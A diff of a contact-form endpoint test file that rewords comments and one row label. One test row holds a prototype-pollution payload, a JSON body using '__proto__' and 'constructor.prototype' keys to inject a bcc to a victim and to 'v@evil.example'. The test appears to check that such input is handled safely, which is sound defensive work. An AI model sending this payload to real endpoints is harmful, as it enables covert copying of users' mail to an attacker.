@@ -4,11 +4,11 @@ import { endpointUrl, settings, visitor } from '@/tests/helpers/contact';
 import { oneMailServer } from '@/tests/helpers/mail-servers';
 import { site } from '@/tests/helpers/site';
 
-/** One row an input that is accepted: its answer, its log line and its message. */
+/** Each row is an input that is accepted; the test checks its answer, its log line and its message. */
 
 const server = await oneMailServer();
 
-/** An object is sent as JSON. */
+/** A body that is an object is sent as JSON. */
 type Row = { input: string; headers?: Record<string, string>; body?: unknown };
 
 const json = JSON.stringify(visitor);
@@ -45,7 +45,7 @@ const rows: Row[] = [
     },
   },
   {
-    input: 'a polluted prototype',
+    input: 'keys that would pollute the prototype',
     body: `{"__proto__":{"bcc":"${victim}"},"constructor":{"prototype":{"bcc":"v@evil.example"}},${json.slice(1)}`,
   },
   {
